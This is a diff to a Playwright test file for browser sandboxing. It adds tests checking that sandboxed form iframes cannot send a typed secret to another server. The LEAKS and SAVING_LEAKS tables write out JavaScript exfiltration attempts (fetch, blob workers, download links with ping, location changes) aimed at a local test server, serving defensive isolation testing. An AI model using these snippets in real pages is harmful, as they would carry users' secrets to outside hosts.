@@ -9,7 +9,7 @@ from typing import Any
 import pytest
 from playwright.sync_api import BrowserContext, Page, expect
 
-from overrides.build.frames import FORMS
+from overrides.build.forms import FORMS
 from tests.browser.conftest import CountingServer, serve
 from tests.browser.form import Form
 
@@ -19,6 +19,11 @@ MARK = "SampMark5ecretMark5ecret"
 """Typed as a secret; must be found nowhere but in its field."""
 
 WHEEL = "tutorial_py-0.1.0-py3-none-any.whl"
+
+DOWNLOAD = (
+    "(() => { const a = document.createElement('a'); a.href = url; a.download = 'x'; %s; "
+    "document.body.append(a); a.click() })()"
+)
 
 LEAKS = {
     "fetch": "fetch(url).catch(() => 0)",
@@ -42,8 +47,18 @@ LEAKS = {
     "blob worker": "new Promise(r => { "
     "const text = `fetch('${url}').finally(() => postMessage(0))`; "
     "const w = new Worker(URL.createObjectURL(new Blob([text]))); w.onmessage = w.onerror = r })",
+    # The last: a frame from which it is refused may be no form any more.
+    "download": DOWNLOAD % "0",
 }
 """Ways out, as a script in the frame would try them; `url` carries the secret."""
+
+MADE = "URL.createObjectURL(new Blob(['x']))"
+SAVING_LEAKS = (
+    *(DOWNLOAD % f"a.target = '{name}'" for name in ("_blank", "_top", "tutorial-engine")),
+    DOWNLOAD % f"a.ping = url; a.href = {MADE}",
+    "location = url",
+)
+"""More that a frame might have which may save a file; each is the last that it can try."""
 
 WORKER_LEAKS = ("fetch", "xhr", "import", "websocket", "eventsource", "blob worker")
 """Those that need no document."""
@@ -178,6 +193,45 @@ def test_form_frame_is_refused_every_way(
     for way in LEAKS.values():
         filled.frame.evaluate(make_attempt(way), f"{stranger.url}?leak={MARK}")
     fence.expect_no_leak()
+
+
+def test_form_frame_that_saves_files_is_refused_every_way(
+    open_form: OpenForm,
+    page: Page,
+    site: CountingServer,
+    stranger: CountingServer,
+    unsealed: CountingServer,
+) -> None:
+    (name,) = [name for name, form in FORMS.items() if form.saves]
+    fence = Fence(page, unsealed, stranger)
+    # A file of the site's own could carry something away as well: in its address.
+    for server in (stranger, site):
+        form = open_form(name)
+        for way in LEAKS.values():
+            form.frame.evaluate(make_attempt(way), f"{server.url}?leak={MARK}")
+    for way in SAVING_LEAKS:
+        form = open_form(name)
+        form.frame.evaluate(f"(url) => {{ {way} }}", f"{stranger.url}?leak={MARK}")
+    fence.expect_no_leak()
+    assert [request for request in site.requests if MARK in request] == []
+
+
+def test_form_that_may_not_save_is_refused_its_file(open_form: OpenForm, page: Page) -> None:
+    form = open_form("check-keys")
+    saved: list[Any] = []
+    page.on("download", lambda each: saved.append(each))  # noqa: PLW0108 - it must take attributes
+    with page.expect_console_message(lambda said: "allow-downloads" in said.text):
+        form.frame.evaluate(f"(url) => {{ {DOWNLOAD % f'a.href = {MADE}'} }}")
+    assert saved == []
+
+
+def test_only_a_form_without_a_secret_saves_files_or_has_settings(open_form: OpenForm) -> None:
+    for name, declared in FORMS.items():
+        form = open_form(name)
+        sandbox = form.page.locator(f"{name} > iframe").get_attribute("sandbox")
+        assert sandbox == ("allow-scripts allow-downloads" if declared.saves else "allow-scripts")
+        if declared.saves or declared.settings:
+            expect(form.inside.locator("[name^=secret], [name^=api_key]")).to_have_count(0)
 
 
 def test_engine_frame_is_refused_every_way(
